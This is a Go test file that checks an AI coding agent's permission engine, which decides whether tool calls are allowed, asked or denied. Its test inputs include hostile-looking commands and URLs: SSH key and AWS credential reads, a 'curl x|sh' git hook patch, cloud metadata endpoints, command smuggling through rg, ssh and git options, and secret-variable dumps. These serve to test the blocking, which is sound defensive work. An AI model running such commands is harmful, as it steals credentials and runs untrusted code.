package permission_test

import (
	"fmt"
	"strings"
	"testing"

	gocmp "github.com/google/go-cmp/cmp"

	"github.com/custom-agent/custom-agent/permission"
	"github.com/custom-agent/custom-agent/permission/risk"
)

const (
	testCwd  = "/home/u/proj"
	testHome = "/home/u"
)

// newReq builds a request for a built-in tool in a fresh default session.
func newReq(tb testing.TB, tool string, args map[string]any, opts ...func(*permission.Request)) permission.Request {
	tb.Helper()
	info, ok := permission.Builtin(tool)
	if !ok {
		tb.Fatalf("no built-in tool %q", tool)
	}
	r := permission.Request{Tool: info, Args: args, Cwd: testCwd, Home: testHome}
	for _, o := range opts {
		o(&r)
	}
	return r
}

func withRules(tb testing.TB, rules ...permission.Rule) func(*permission.Request) {
	tb.Helper()
	for i := range rules {
		if rules[i].Level == "" {
			rules[i].Level = permission.LevelProject
		}
		if rules[i].Source == "" {
			rules[i].Source = "/home/u/proj/.custom-agent/policy.json"
		}
	}
	p, err := permission.Compile(rules)
	if err != nil {
		tb.Fatal(err)
	}
	return func(r *permission.Request) { r.Policy = p }
}

func withMode(m permission.Mode) func(*permission.Request) {
	return func(r *permission.Request) { r.Mode = m }
}

func withSkill(tools ...string) func(*permission.Request) {
	return func(r *permission.Request) {
		r.AllowedTools = tools
		if r.AllowedTools == nil {
			r.AllowedTools = []string{}
		}
	}
}

func withResolved(m map[string]string) func(*permission.Request) {
	return func(r *permission.Request) { r.Resolved = m }
}

func withPrior(tb testing.TB, tool string, args map[string]any, l risk.Level, byUser bool) func(*permission.Request) {
	tb.Helper()
	b, err := permission.CanonicalArgs(args)
	if err != nil {
		tb.Fatal(err)
	}
	return func(r *permission.Request) {
		r.History = append(r.History, permission.Prior{Tool: tool, Args: b, Risk: l, Decision: permission.Allow, ByUser: byUser})
	}
}

// outcome is the part of a Decision the table compares.
type outcome struct {
	Decision permission.Verdict
	Risk     risk.Level
	Source   permission.Source
	RuleID   string
}

func outcomeOf(d permission.Decision) outcome {
	o := outcome{Decision: d.Decision, Risk: d.RiskAtDecision, Source: d.SourcedFrom}
	if d.Rule != nil {
		o.RuleID = d.Rule.ID
	}
	return o
}

type args = map[string]any

func TestCheck(t *testing.T) {
	t.Parallel()
	var (
		allowNpmTest = permission.Rule{ID: "npm-test", Tool: "shell", Command: "npm test", Decision: permission.Allow}
		denyCurl     = permission.Rule{ID: "no-curl", Tool: "shell", Command: "curl", Decision: permission.Deny, Level: permission.LevelUser, Source: "/home/u/.config/custom-agent/policy.json"}
		allowShell   = permission.Rule{ID: "all-shell", Tool: "shell", Decision: permission.Allow}
		askShell     = permission.Rule{ID: "ask-shell", Tool: "shell", Decision: permission.Ask, Level: permission.LevelSession, Source: ""}
		allowReads   = permission.Rule{ID: "reads", Tool: "read_file", Decision: permission.Allow}
		allowDotenv  = permission.Rule{ID: "dotenv", Tool: "read_file", Path: "**/.env", Decision: permission.Allow}
		allowSrc     = permission.Rule{ID: "src", Tool: "write_file", Path: "src/**", Decision: permission.Allow}
		denySecrets  = permission.Rule{ID: "secrets", Tool: "*", Path: "secrets/**", Decision: permission.Deny}
		allowGitHub  = permission.Rule{ID: "gh", Tool: "http_*", URL: "api.github.com/repos/**", Decision: permission.Allow}
		allowSubs    = permission.Rule{ID: "subs", Tool: "http_get", URL: "*.example.com", Decision: permission.Allow}
		denyPassword = permission.Rule{ID: "pw", Tool: "search_text", Args: map[string]string{"pattern": "*password*"}, Decision: permission.Deny}
		allowTmpSh   = permission.Rule{ID: "tmp", Tool: "shell", Path: "/tmp/**", Decision: permission.Allow}
	)
	tests := []struct {
		name       string
		req        permission.Request
		want       outcome
		reasonHas  string
		findingArg string // the top finding's Arg, if any
	}{
		// Default table.
		{name: "read in cwd", req: newReq(t, "read_file", args{"path": "README.md"}),
			want: outcome{permission.Allow, risk.Read, permission.FromDefault, ""}, reasonHas: "reads are allowed by default"},
		{name: "list cwd by default", req: newReq(t, "list_files", args{}),
			want: outcome{permission.Allow, risk.Read, permission.FromDefault, ""}},
		{name: "read outside cwd raises", req: newReq(t, "read_file", args{"path": "/tmp/notes.txt"}),
			want: outcome{permission.Ask, risk.Write, permission.FromDefault, ""}, reasonHas: "outside the working directory", findingArg: "path"},
		{name: "write in cwd", req: newReq(t, "write_file", args{"path": "src/a.go", "content": "x"}),
			want: outcome{permission.Ask, risk.Write, permission.FromDefault, ""}, reasonHas: "write calls are asked by default"},
		{name: "shell", req: newReq(t, "shell", args{"command": "npm test"}),
			want: outcome{permission.Ask, risk.Execute, permission.FromDefault, ""}, reasonHas: "execute calls are asked by default"},
		{name: "run_tests", req: newReq(t, "run_tests", args{}),
			want: outcome{permission.Ask, risk.Execute, permission.FromDefault, ""}},
		{name: "http get", req: newReq(t, "http_get", args{"url": "https://example.com/x"}),
			want: outcome{permission.Ask, risk.Network, permission.FromDefault, ""}, reasonHas: "network calls are asked by default"},
		{name: "destructive shell", req: newReq(t, "shell", args{"command": "rm -rf dist"}),
			want: outcome{permission.Ask, risk.Destructive, permission.FromDefault, ""}, reasonHas: "destructive calls are asked every time", findingArg: "command"},

		// A destructive part does not turn a credential part's denial
		// into a question about the deletion (found in review).
		{name: "deletion then a key read", req: newReq(t, "shell", args{"command": "rm -rf dist && cat ~/.ssh/id_rsa"}),
			want: outcome{permission.Deny, risk.Destructive, permission.FromDefault, ""}, reasonHas: "it also touches a credential (`~/.ssh/id_rsa` is in ~/.ssh", findingArg: "command"},
		{name: "a key read then a deletion", req: newReq(t, "shell", args{"command": "cat ~/.aws/credentials; rm -rf /tmp/x"}),
			want: outcome{permission.Deny, risk.Destructive, permission.FromDefault, ""}, reasonHas: "credential calls are denied unless a policy rule that names them allows them, whatever else the call does", findingArg: "command"},

		// Argument-level raises.
		{name: "ssh key", req: newReq(t, "read_file", args{"path": "~/.ssh/id_rsa"}),
			want: outcome{permission.Deny, risk.Credential, permission.FromDefault, ""}, reasonHas: "credential calls are denied", findingArg: "path"},
		{name: "etc", req: newReq(t, "read_file", args{"path": "/etc/shadow"}),
			want: outcome{permission.Deny, risk.Credential, permission.FromDefault, ""}},
		{name: "sibling dir with shared prefix", req: newReq(t, "read_file", args{"path": "/home/u/proj_backup/.env"}),
			want: outcome{permission.Deny, risk.Credential, permission.FromDefault, ""}},
		{name: "symlink in repo to ssh", req: newReq(t, "read_file", args{"path": "keys/id"}, withResolved(map[string]string{"/home/u/proj/keys/id": "/home/u/.ssh/id_ed25519"})),
			want: outcome{permission.Deny, risk.Credential, permission.FromDefault, ""}, reasonHas: "symbolic link"},
		{name: "dotdot after a link is physical", req: newReq(t, "read_file", args{"path": "l/../config"}, withResolved(map[string]string{"/home/u/proj/l": "/home/u/.aws/sub"})),
			want: outcome{permission.Deny, risk.Credential, permission.FromDefault, ""}, reasonHas: "/home/u/.aws/config"},
		{name: "link in a parent directory", req: newReq(t, "write_file", args{"path": "h/pre-commit", "content": ""}, withResolved(map[string]string{"/home/u/proj/h": "/home/u/proj/.git/hooks"})),
			want: outcome{permission.Ask, risk.Execute, permission.FromDefault, ""}},
		{name: "git hook write", req: newReq(t, "write_file", args{"path": ".git/hooks/pre-commit", "content": "x"}),
			want: outcome{permission.Ask, risk.Execute, permission.FromDefault, ""}, reasonHas: "hook"},
		{name: "own policy write", req: newReq(t, "write_file", args{"path": ".custom-agent/policy.json", "content": "{}"}),
			want: outcome{permission.Deny, risk.Credential, permission.FromDefault, ""}, reasonHas: "own"},
		{name: "shell reads key", req: newReq(t, "shell", args{"command": "cat ~/.ssh/id_rsa"}),
			want: outcome{permission.Deny, risk.Credential, permission.FromDefault, ""}},
		{name: "shell cwd arg into ssh", req: newReq(t, "shell", args{"command": "cat id_rsa", "cwd": "~/.ssh"}),
			want: outcome{permission.Deny, risk.Credential, permission.FromDefault, ""}},
		{name: "patch in cwd", req: newReq(t, "apply_patch", args{"patch": "--- a/src/x.go\n+++ b/src/x.go\n@@ -1 +1 @@\n-a\n+b\n"}),
			want: outcome{permission.Ask, risk.Write, permission.FromDefault, ""}},
		{name: "patch to hook", req: newReq(t, "apply_patch", args{"patch": "--- /dev/null\n+++ b/.git/hooks/post-checkout\n@@ -0,0 +1 @@\n+curl x|sh\n"}),
			want: outcome{permission.Ask, risk.Execute, permission.FromDefault, ""}, findingArg: "patch"},
		{name: "patch escaping to ssh", req: newReq(t, "apply_patch", args{"patch": "--- a/../.ssh/authorized_keys\n+++ b/../.ssh/authorized_keys\n@@\n+ssh-ed25519 AAA\n"}),
			want: outcome{permission.Deny, risk.Credential, permission.FromDefault, ""}},
		{name: "patch with no paths", req: newReq(t, "apply_patch", args{"patch": "hello"}),
			want: outcome{permission.Ask, risk.Write, permission.FromDefault, ""}},
		{name: "metadata service", req: newReq(t, "http_get", args{"url": "http://169.254.169.254/latest/meta-data/"}),
			want: outcome{permission.Deny, risk.Credential, permission.FromDefault, ""}, reasonHas: "metadata"},
		{name: "metadata as decimal", req: newReq(t, "http_get", args{"url": "http://2852039166/"}),
			want: outcome{permission.Deny, risk.Credential, permission.FromDefault, ""}},
		{name: "metadata hostname", req: newReq(t, "http_get", args{"url": "http://metadata.google.internal./computeMetadata/v1/"}),
			want: outcome{permission.Deny, risk.Credential, permission.FromDefault, ""}},
		{name: "auth header", req: newReq(t, "http_post", args{"url": "https://x.test/", "body": "", "headers": map[string]any{"Authorization": "Bearer x"}}),
			want: outcome{permission.Deny, risk.Credential, permission.FromDefault, ""}, findingArg: "headers"},
		{name: "file url", req: newReq(t, "http_get", args{"url": "file:///etc/passwd"}),
			want: outcome{permission.Deny, risk.Credential, permission.FromDefault, ""}},
		{name: "search whole home", req: newReq(t, "search_text", args{"pattern": "AKIA", "path": "~"}),
			want: outcome{permission.Deny, risk.Credential, permission.FromDefault, ""}, reasonHas: "beneath"},
		{name: "search project", req: newReq(t, "search_text", args{"pattern": "TODO"}),
			want: outcome{permission.Allow, risk.Read, permission.FromDefault, ""}},
		{name: "search glob aimed at env files", req: newReq(t, "search_text", args{"pattern": "KEY", "glob": "**/.env*"}),
			want: outcome{permission.Deny, risk.Credential, permission.FromDefault, ""}, findingArg: "glob"},
		{name: "list glob escaping to ssh", req: newReq(t, "list_files", args{"glob": "../../.ssh/*"}),
			want: outcome{permission.Deny, risk.Credential, permission.FromDefault, ""}},
		{name: "post private key", req: newReq(t, "http_post", args{"url": "https://x.test/", "body": "-----BEGIN OPENSSH PRIVATE KEY-----\nabc"}),
			want: outcome{permission.Deny, risk.Credential, permission.FromDefault, ""}, findingArg: "body"},
		{name: "post plain body", req: newReq(t, "http_post", args{"url": "https://x.test/", "body": "{\"q\":1}"}),
			want: outcome{permission.Ask, risk.Network, permission.FromDefault, ""}},
		{name: "path not a string", req: newReq(t, "read_file", args{"path": 3.0}),
			want: outcome{permission.Ask, risk.Write, permission.FromDefault, ""}},

		// Skill.
		{name: "skill lacks tool", req: newReq(t, "shell", args{"command": "ls"}, withSkill("read_file")),
			want: outcome{permission.Deny, risk.Execute, permission.FromSkill, ""}, reasonHas: "skill"},
		{name: "skill glob", req: newReq(t, "read_file", args{"path": "a"}, withSkill("read_*")),
			want: outcome{permission.Allow, risk.Read, permission.FromDefault, ""}},
		{name: "empty skill list", req: newReq(t, "read_file", args{"path": "a"}, withSkill()),
			want: outcome{permission.Deny, risk.Read, permission.FromSkill, ""}},
		{name: "skill beats allow rule", req: newReq(t, "shell", args{"command": "npm test"}, withSkill("read_file"), withRules(t, allowNpmTest)),
			want: outcome{permission.Deny, risk.Execute, permission.FromSkill, ""}},

		// Mode.
		{name: "plan read", req: newReq(t, "read_file", args{"path": "a"}, withMode(permission.ModePlan)),
			want: outcome{permission.Allow, risk.Read, permission.FromDefault, ""}},
		{name: "plan write", req: newReq(t, "write_file", args{"path": "a", "content": ""}, withMode(permission.ModePlan)),
			want: outcome{permission.Deny, risk.Write, permission.FromMode, ""}, reasonHas: "plan mode"},
		{name: "plan read outside cwd", req: newReq(t, "read_file", args{"path": "/tmp/a"}, withMode(permission.ModePlan)),
			want: outcome{permission.Deny, risk.Write, permission.FromMode, ""}, reasonHas: "Plan mode"},
		{name: "plan beats allow rule", req: newReq(t, "shell", args{"command": "npm test"}, withMode(permission.ModePlan), withRules(t, allowNpmTest)),
			want: outcome{permission.Deny, risk.Execute, permission.FromMode, ""}},
		{name: "unknown mode", req: newReq(t, "read_file", args{"path": "a"}, withMode("yolo")),
			want: outcome{permission.Deny, risk.Read, permission.FromMode, ""}, reasonHas: "unknown"},

		// Overrides.
		{name: "allow prefix", req: newReq(t, "shell", args{"command": "npm test"}, withRules(t, allowNpmTest)),
			want: outcome{permission.Allow, risk.Execute, permission.FromOverride, "npm-test"}, reasonHas: "Rule `npm-test` (project, /home/u/proj/.custom-agent/policy.json) allows"},
		{name: "allow prefix longer argv", req: newReq(t, "shell", args{"command": "npm test -- --watch"}, withRules(t, allowNpmTest)),
			want: outcome{permission.Allow, risk.Execute, permission.FromOverride, "npm-test"}},
		{name: "prefix is whole words", req: newReq(t, "shell", args{"command": "npm testx"}, withRules(t, allowNpmTest)),
			want: outcome{permission.Ask, risk.Execute, permission.FromDefault, ""}},
		{name: "allow needs every command", req: newReq(t, "shell", args{"command": "npm test && ls"}, withRules(t, allowNpmTest)),
			want: outcome{permission.Ask, risk.Execute, permission.FromDefault, ""}},
		{name: "deny needs one command", req: newReq(t, "shell", args{"command": "npm test; curl x.test"}, withRules(t, allowNpmTest, denyCurl)),
			want: outcome{permission.Deny, risk.Network, permission.FromOverride, "no-curl"}, reasonHas: "(user, /home/u/.config/custom-agent/policy.json) denies"},
		{name: "deny beats allow", req: newReq(t, "shell", args{"command": "curl x.test"}, withRules(t, allowShell, denyCurl)),
			want: outcome{permission.Deny, risk.Network, permission.FromOverride, "no-curl"}},
		{name: "ask beats allow", req: newReq(t, "shell", args{"command": "npm test"}, withRules(t, allowNpmTest, askShell)),
			want: outcome{permission.Ask, risk.Execute, permission.FromOverride, "ask-shell"}},
		// "shell: always ask" tightens; it does not turn a credential
		// call's denial into a question unless it names the call.
		{name: "tool-wide ask does not loosen a key read", req: newReq(t, "shell", args{"command": "cat ~/.ssh/id_rsa"}, withRules(t, askShell)),
			want: outcome{permission.Deny, risk.Credential, permission.FromDefault, ""}, reasonHas: "Rule `ask-shell` (session, /home/u/proj/.custom-agent/policy.json) asks before the tool's calls but does not name this path"},
		{name: "tool-wide ask does not loosen a deletion and a key read", req: newReq(t, "shell", args{"command": "rm -rf dist && cat ~/.ssh/id_rsa"}, withRules(t, askShell)),
			want: outcome{permission.Deny, risk.Destructive, permission.FromDefault, ""}, reasonHas: "does not turn the denial into a question"},
		{name: "an ask rule for another command does not name the key read after it", req: newReq(t, "shell", args{"command": "git push && cat /home/u/.ssh/id_rsa"}, withRules(t, permission.Rule{ID: "ask-push", Tool: "shell", Command: "git push", Decision: permission.Ask})),
			want: outcome{permission.Deny, risk.Credential, permission.FromDefault, ""}, reasonHas: "does not turn the denial into a question"},
		{name: "an ask rule for other paths does not name the key beside them", req: newReq(t, "shell", args{"command": "cat src/a.txt /home/u/.ssh/id_rsa"}, withRules(t, permission.Rule{ID: "ask-src", Tool: "shell", Path: "src/**", Decision: permission.Ask})),
			want: outcome{permission.Deny, risk.Credential, permission.FromDefault, ""}},
		{name: "an ask rule naming the command asks", req: newReq(t, "shell", args{"command": "cat /home/u/.ssh/id_rsa"}, withRules(t, permission.Rule{ID: "ask-cat-key", Tool: "shell", Command: "cat /home/u/.ssh/id_rsa", Decision: permission.Ask})),
			want: outcome{permission.Ask, risk.Credential, permission.FromOverride, "ask-cat-key"}},
		{name: "an ask rule naming the key asks", req: newReq(t, "read_file", args{"path": "~/.ssh/id_rsa"}, withRules(t, permission.Rule{ID: "ask-key", Tool: "read_file", Path: "~/.ssh/id_rsa", Decision: permission.Ask})),
			want: outcome{permission.Ask, risk.Credential, permission.FromOverride, "ask-key"}},
		{name: "an allow naming the key allows it", req: newReq(t, "shell", args{"command": "cat /home/u/.ssh/id_rsa"}, withRules(t, permission.Rule{ID: "key-ok", Tool: "shell", Command: "cat /home/u/.ssh/id_rsa", Decision: permission.Allow})),
			want: outcome{permission.Allow, risk.Credential, permission.FromOverride, "key-ok"}},
		{name: "an unfit ask still beats an allow naming the key", req: newReq(t, "shell", args{"command": "cat /home/u/.ssh/id_rsa"}, withRules(t, askShell, permission.Rule{ID: "key-ok", Tool: "shell", Command: "cat /home/u/.ssh/id_rsa", Decision: permission.Allow})),
			want: outcome{permission.Ask, risk.Credential, permission.FromOverride, "ask-shell"}},
		{name: "a tool-wide allow does not cover a deletion and an environment dump", req: newReq(t, "shell", args{"command": "rm -rf dist; printenv"}, withRules(t, allowShell)),
			want: outcome{permission.Deny, risk.Destructive, permission.FromDefault, ""}, reasonHas: "it also touches a credential"},
		{name: "tool-wide ask still tightens", req: newReq(t, "shell", args{"command": "ls"}, withRules(t, askShell)),
			want: outcome{permission.Ask, risk.Execute, permission.FromOverride, "ask-shell"}},
		{name: "allow cannot loosen destructive", req: newReq(t, "shell", args{"command": "rm -rf dist"}, withRules(t, allowShell)),
			want: outcome{permission.Ask, risk.Destructive, permission.FromOverride, "all-shell"}, reasonHas: "destructive calls are asked every time"},
		{name: "deny tightens destructive", req: newReq(t, "shell", args{"command": "rm -rf dist"}, withRules(t, permission.Rule{ID: "no-rm", Tool: "shell", Command: "rm", Decision: permission.Deny})),
			want: outcome{permission.Deny, risk.Destructive, permission.FromOverride, "no-rm"}},
		{name: "allow cannot allow opaque", req: newReq(t, "shell", args{"command": "eval \"$X\""}, withRules(t, allowShell)),
			want: outcome{permission.Ask, risk.Execute, permission.FromDefault, ""}, reasonHas: "cannot be judged statically"},
		{name: "allow cannot allow parse failure", req: newReq(t, "shell", args{"command": "npm test (("}, withRules(t, allowShell)),
			want: outcome{permission.Ask, risk.Execute, permission.FromDefault, ""}},
		{name: "tool-only allow does not loosen credential", req: newReq(t, "read_file", args{"path": ".env"}, withRules(t, allowReads)),
			want: outcome{permission.Deny, risk.Credential, permission.FromDefault, ""}, reasonHas: "does not name"},
		{name: "explicit allow loosens credential", req: newReq(t, "read_file", args{"path": "config/.env"}, withRules(t, allowDotenv)),
			want: outcome{permission.Allow, risk.Credential, permission.FromOverride, "dotenv"}},
		{name: "prefix allow does not loosen protected write", req: newReq(t, "shell", args{"command": "echo x > .git/hooks/pre-commit"}, withRules(t, permission.Rule{ID: "echo", Tool: "shell", Command: "echo", Decision: permission.Allow})),
			want: outcome{permission.Ask, risk.Execute, permission.FromDefault, ""}, reasonHas: "does not name the file"},
		{name: "path allow loosens protected write", req: newReq(t, "write_file", args{"path": ".vscode/settings.json", "content": "{}"}, withRules(t, permission.Rule{ID: "vscode", Tool: "write_file", Path: ".vscode/settings.json", Decision: permission.Allow})),
			want: outcome{permission.Allow, risk.Execute, permission.FromOverride, "vscode"}},
		{name: "tool allow does not loosen protected write", req: newReq(t, "write_file", args{"path": ".vscode/settings.json", "content": "{}"}, withRules(t, permission.Rule{ID: "writes", Tool: "write_file", Decision: permission.Allow})),
			want: outcome{permission.Ask, risk.Execute, permission.FromDefault, ""}},
		{name: "exact command allow loosens credential", req: newReq(t, "shell", args{"command": "cat .env"}, withRules(t, permission.Rule{ID: "catenv", Tool: "shell", Command: "cat .env", Decision: permission.Allow})),
			want: outcome{permission.Allow, risk.Credential, permission.FromOverride, "catenv"}},
		{name: "program allow does not loosen credential", req: newReq(t, "shell", args{"command": "cat .env"}, withRules(t, permission.Rule{ID: "cat", Tool: "shell", Command: "cat", Decision: permission.Allow})),
			want: outcome{permission.Deny, risk.Credential, permission.FromDefault, ""}},
		{name: "allow path glob", req: newReq(t, "write_file", args{"path": "src/pkg/a.go", "content": ""}, withRules(t, allowSrc)),
			want: outcome{permission.Allow, risk.Write, permission.FromOverride, "src"}},
		{name: "allow path glob escaped by dotdot", req: newReq(t, "write_file", args{"path": "src/../../x", "content": ""}, withRules(t, allowSrc)),
			want: outcome{permission.Ask, risk.Execute, permission.FromDefault, ""}},
		{name: "allow path needs resolved form too", req: newReq(t, "write_file", args{"path": "src/link", "content": ""}, withRules(t, allowSrc), withResolved(map[string]string{"/home/u/proj/src/link": "/home/u/proj/build/x"})),
			want: outcome{permission.Ask, risk.Write, permission.FromDefault, ""}},
		{name: "allow path is case-sensitive", req: newReq(t, "write_file", args{"path": "SRC/a.go", "content": ""}, withRules(t, allowSrc)),
			want: outcome{permission.Ask, risk.Write, permission.FromDefault, ""}},
		{name: "deny path ignores case", req: newReq(t, "read_file", args{"path": "SECRETS/a.txt"}, withRules(t, denySecrets)),
			want: outcome{permission.Deny, risk.Read, permission.FromOverride, "secrets"}},
		{name: "deny path matches resolved form", req: newReq(t, "read_file", args{"path": "docs/a"}, withRules(t, denySecrets), withResolved(map[string]string{"/home/u/proj/docs/a": "/home/u/proj/secrets/a"})),
			want: outcome{permission.Deny, risk.Read, permission.FromOverride, "secrets"}},
		{name: "deny path in shell", req: newReq(t, "shell", args{"command": "cat secrets/k"}, withRules(t, allowShell, denySecrets)),
			want: outcome{permission.Deny, risk.Execute, permission.FromOverride, "secrets"}},
		{name: "path-only allow never allows shell", req: newReq(t, "shell", args{"command": "cat /tmp/x"}, withRules(t, allowTmpSh)),
			want: outcome{permission.Ask, risk.Execute, permission.FromDefault, ""}},
		{name: "allow url", req: newReq(t, "http_get", args{"url": "https://api.github.com/repos/a/b"}, withRules(t, allowGitHub)),
			want: outcome{permission.Allow, risk.Network, permission.FromOverride, "gh"}},
		{name: "url other host", req: newReq(t, "http_get", args{"url": "https://api.github.com.evil.test/repos/a"}, withRules(t, allowGitHub)),
			want: outcome{permission.Ask, risk.Network, permission.FromDefault, ""}},
		{name: "url other path", req: newReq(t, "http_get", args{"url": "https://api.github.com/user"}, withRules(t, allowGitHub)),
			want: outcome{permission.Ask, risk.Network, permission.FromDefault, ""}},
		{name: "url subdomain glob", req: newReq(t, "http_get", args{"url": "https://a.example.com/"}, withRules(t, allowSubs)),
			want: outcome{permission.Allow, risk.Network, permission.FromOverride, "subs"}},
		{name: "url subdomain glob not apex", req: newReq(t, "http_get", args{"url": "https://example.com/"}, withRules(t, allowSubs)),
			want: outcome{permission.Ask, risk.Network, permission.FromDefault, ""}},
		{name: "args glob deny", req: newReq(t, "search_text", args{"pattern": "db_PASSWORD="}, withRules(t, denyPassword)),
			want: outcome{permission.Deny, risk.Read, permission.FromOverride, "pw"}},
		{name: "rule for other tool", req: newReq(t, "read_file", args{"path": "a"}, withRules(t, denyCurl)),
			want: outcome{permission.Allow, risk.Read, permission.FromDefault, ""}},

		// Prior approval.
		{name: "prior approval", req: newReq(t, "shell", args{"command": "npm test"}, withPrior(t, "shell", args{"command": "npm test"}, risk.Execute, true)),
			want: outcome{permission.Allow, risk.Execute, permission.FromPrior, ""}, reasonHas: "approved this exact call"},
		{name: "prior different args", req: newReq(t, "shell", args{"command": "npm test "}, withPrior(t, "shell", args{"command": "npm test"}, risk.Execute, true)),
			want: outcome{permission.Ask, risk.Execute, permission.FromDefault, ""}},
		{name: "prior not by user", req: newReq(t, "shell", args{"command": "npm test"}, withPrior(t, "shell", args{"command": "npm test"}, risk.Execute, false)),
			want: outcome{permission.Ask, risk.Execute, permission.FromDefault, ""}},
		{name: "prior at lower risk", req: newReq(t, "read_file", args{"path": "link"}, withPrior(t, "read_file", args{"path": "link"}, risk.Write, true), withResolved(map[string]string{"/home/u/proj/link": "/home/u/.aws/credentials"})),
			want: outcome{permission.Deny, risk.Credential, permission.FromDefault, ""}},
		{name: "prior never for destructive", req: newReq(t, "shell", args{"command": "rm -rf dist"}, withPrior(t, "shell", args{"command": "rm -rf dist"}, risk.Destructive, true)),
			want: outcome{permission.Ask, risk.Destructive, permission.FromDefault, ""}},
		{name: "ask rule beats prior", req: newReq(t, "shell", args{"command": "npm test"}, withRules(t, askShell), withPrior(t, "shell", args{"command": "npm test"}, risk.Execute, true)),
			want: outcome{permission.Ask, risk.Execute, permission.FromOverride, "ask-shell"}},

		// Code handed to another program: a rule for the outer program does
		// not allow it, whatever the inner command's own risk.
		{name: "rg rule, pre script", req: newReq(t, "shell", args{"command": "rg --pre=./evil.sh TODO ."}, withRules(t, allowWord("rg"))),
			want: outcome{permission.Ask, risk.Execute, permission.FromDefault, ""}},
		{name: "rg rule, plain search", req: newReq(t, "shell", args{"command": "rg -n TODO src"}, withRules(t, allowWord("rg"))),
			want: outcome{permission.Allow, risk.Execute, permission.FromOverride, "allow-rg"}},
		{name: "tar rule, to-command", req: newReq(t, "shell", args{"command": "tar -xf a.tar --to-command='cat'"}, withRules(t, allowWord("tar"))),
			want: outcome{permission.Ask, risk.Execute, permission.FromDefault, ""}},
		{name: "tar rule, plain extract", req: newReq(t, "shell", args{"command": "tar -xf a.tar"}, withRules(t, allowWord("tar"))),
			want: outcome{permission.Allow, risk.Execute, permission.FromOverride, "allow-tar"}},
		{name: "ssh rule, proxycommand", req: newReq(t, "shell", args{"command": "ssh -o ProxyCommand='touch /tmp/p' host"}, withRules(t, allowWord("ssh"))),
			want: outcome{permission.Ask, risk.Network, permission.FromDefault, ""}},
		{name: "git rule, upload-pack", req: newReq(t, "shell", args{"command": "git ls-remote --upload-pack='touch /tmp/p' ."}, withRules(t, allowWord("git"), allowWord("touch"))),
			want: outcome{permission.Ask, risk.Network, permission.FromDefault, ""}}, // the appended repository path makes it Dynamic
		{name: "at rule, here-string", req: newReq(t, "shell", args{"command": "at now <<< 'touch x'"}, withRules(t, allowWord("at"))),
			want: outcome{permission.Ask, risk.Execute, permission.FromDefault, ""}},
		{name: "npx rule, rimraf", req: newReq(t, "shell", args{"command": "npx rimraf x"}, withRules(t, allowWord("npx"))),
			want: outcome{permission.Ask, risk.Destructive, permission.FromDefault, ""}},
		{name: "npx rule, prettier", req: newReq(t, "shell", args{"command": "npx prettier --check ."}, withRules(t, allowWord("npx"))),
			want: outcome{permission.Ask, risk.Network, permission.FromDefault, ""}},
		{name: "git rule, apply hook", req: newReq(t, "shell", args{"command": "git apply <<'EOF'\n+++ b/.git/hooks/pre-commit\nEOF"}, withRules(t, allowWord("git"))),
			want: outcome{permission.Ask, risk.Execute, permission.FromDefault, ""}, reasonHas: "does not name the file written"},

		// Secrets printed from the environment.
		{name: "echo secret var", req: newReq(t, "shell", args{"command": "echo $AWS_SECRET_ACCESS_KEY"}),
			want: outcome{permission.Deny, risk.Credential, permission.FromDefault, ""}, findingArg: "command"},
		{name: "echo secret var, echo rule", req: newReq(t, "shell", args{"command": `printf %s "$OPENAI_API_KEY"`}, withRules(t, allowWord("printf"))),
			want: outcome{permission.Deny, risk.Credential, permission.FromDefault, ""}},
		{name: "echo home var", req: newReq(t, "shell", args{"command": "echo $HOME $KEYBOARD_LAYOUT"}),
			want: outcome{permission.Ask, risk.Execute, permission.FromDefault, ""}},
		{name: "cat rclone config", req: newReq(t, "shell", args{"command": "cat ~/.config/rclone/rclone.conf"}, withRules(t, allowWord("cat"))),
			want: outcome{permission.Deny, risk.Credential, permission.FromDefault, ""}},
		{name: "read maven settings", req: newReq(t, "read_file", args{"path": "~/.m2/settings.xml"}),
			want: outcome{permission.Deny, risk.Credential, permission.FromDefault, ""}},

		// Tools outside the table.
		{name: "mcp tool without risk", req: permission.Request{Tool: permission.ToolInfo{Name: "mcp__x__y", Namespace: "mcp__x"}, Cwd: testCwd},
			want: outcome{permission.Ask, risk.Destructive, permission.FromDefault, ""}, reasonHas: "no known risk"},
		{name: "mcp network tool", req: permission.Request{Tool: permission.ToolInfo{Name: "mcp__gh__issue", Namespace: "mcp__gh", Risk: risk.Network}, Cwd: testCwd},
			want: outcome{permission.Ask, risk.Network, permission.FromDefault, ""}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			d := permission.Engine{}.Check(tc.req)
			if diff := gocmp.Diff(tc.want, outcomeOf(d)); diff != "" {
				t.Errorf("Check() mismatch (-want +got):\n%s\nreason: %s\nfindings: %+v", diff, d.Reason, d.Findings)
			}
			if tc.reasonHas != "" && !strings.Contains(d.Reason, tc.reasonHas) {
				t.Errorf("reason %q does not mention %q", d.Reason, tc.reasonHas)
			}
			if tc.findingArg != "" && (len(d.Findings) == 0 || d.Findings[0].Arg != tc.findingArg) {
				t.Errorf("top finding %+v, want one on %q", d.Findings, tc.findingArg)
			}
			if d.Decision == permission.Unset || d.Reason == "" {
				t.Errorf("decision %q with reason %q: a decision is never unset and always explained", d.Decision, d.Reason)
			}
		})
	}
}

// allowWord is a shell allow rule for one command prefix.
func allowWord(w string) permission.Rule {
	return permission.Rule{ID: "allow-" + w, Tool: "shell", Command: w, Decision: permission.Allow}
}

func TestDecisionZeroValueIsNotAllowed(t *testing.T) {
	t.Parallel()
	var d permission.Decision
	if d.Allowed() {
		t.Error("the zero Decision must not be allowed")
	}
	for _, v := range []permission.Verdict{permission.Ask, permission.Deny, "other"} {
		if (permission.Decision{Decision: v}).Allowed() {
			t.Errorf("%q must not be allowed", v)
		}
	}
	if !(permission.Decision{Decision: permission.Allow}).Allowed() {
		t.Error("allow must be allowed")
	}
}

// TestTightenOnly: an untrusted project's ask rule makes an allowed read a
// question, but cannot turn a credential deny into one.
func TestTightenOnly(t *testing.T) {
	t.Parallel()
	pol, err := permission.Compile([]permission.Rule{
		{ID: "ask-reads", Level: permission.LevelProject, Tool: "read_file", Decision: permission.Ask, TightenOnly: true},
	})
	if err != nil {
		t.Fatal(err)
	}
	info, _ := permission.Builtin("read_file")
	base := permission.Request{Tool: info, Cwd: "/home/u/proj", Home: "/home/u", Policy: pol}
	readme, cred := base, base
	readme.Args = map[string]any{"path": "README.md"}
	cred.Args = map[string]any{"path": ".env"}
	if d := (permission.Engine{}).Check(readme); d.Decision != permission.Ask || d.Rule == nil || d.Rule.ID != "ask-reads" {
